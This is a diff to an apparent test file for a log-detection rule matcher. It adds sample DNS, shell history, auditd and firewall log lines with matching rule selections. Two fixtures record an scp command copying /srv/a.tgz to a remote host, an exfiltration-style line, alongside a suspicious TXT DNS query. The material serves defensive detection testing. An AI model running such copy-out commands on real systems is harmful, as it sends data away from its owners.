@@ -56,7 +56,23 @@ M365 = (
     '{"CreationTime":"2024-06-07T14:02:11","Operation":"FileDownloaded","Workload":"SharePoint","RecordType":6,'
     '"UserId":"sato@example.jp","ObjectId":"https://example.sharepoint.com/a.xlsx","ResultStatus":"Succeeded"}\n'
 )
+BIND = "05-Jun-2024 10:00:00.123 queries: info: client @0x7f 192.0.2.5#4711 (x): query: t.example.net IN TXT + (192.0.2.1)\n"
+ZSH = ": 1717549200:0;/usr/bin/scp /srv/a.tgz u@198.51.100.7:/tmp\n"
+AUDITD = (
+    'type=EXECVE msg=audit(1717549200.123:11): argc=3 a0="scp" a1="/srv/a.tgz" a2="u@198.51.100.7:/tmp"\n'
+    "type=USER_LOGIN msg=audit(1717549201.123:12): pid=7 uid=0 msg='op=login acct=\"sato\" addr=198.51.100.7 res=failed'\n"
+)
+PAN = (
+    "1,2024/06/05 10:00:00,001801000001,TRAFFIC,end,2305,2024/06/05 10:00:00,192.0.2.10,198.51.100.9,0.0.0.0,0.0.0.0,allow-all,"
+    "example\\sato,,ssl,vsys1,trust,untrust,ae1,ae2,default,x,12345,1,50000,443,0,0,0x19,tcp,allow,1000,900,100,5,x,600,any,0\n"
+)
 CASES = [
+    ("query.log", BIND, {"category": "dns"}, {"query|endswith": ".example.net", "record_type": "TXT"}, True),
+    ("history", ZSH, {"product": "linux", "category": "process_creation"}, {"CommandLine|contains": "u@198.51"}, True),
+    ("audit.log", AUDITD, {"product": "linux", "category": "process_creation"}, {"CommandLine|contains": "u@198.51"}, True),
+    ("audit.log", AUDITD, {"product": "linux", "service": "auditd"}, {"type": "USER_LOGIN", "acct": "sato"}, True),
+    ("pan.log", PAN, {"category": "firewall"}, {"src_ip": "192.0.2.10", "dst_port": 443}, True),
+    ("pan.log", PAN, {"product": "paloalto"}, {"app": "ssl", "verdict": "allow"}, True),
     ("dns.json", ZEEK, {"product": "zeek", "service": "dns"}, {"query|endswith": ".example.net", "id.resp_p": 53}, True),
     ("dns.json", ZEEK, {"category": "dns"}, {"query": "t.example.net", "record_type": "TXT"}, True),
     ("dns.json", ZEEK, {"product": "zeek", "service": "http"}, {"id.resp_p": 53}, False),
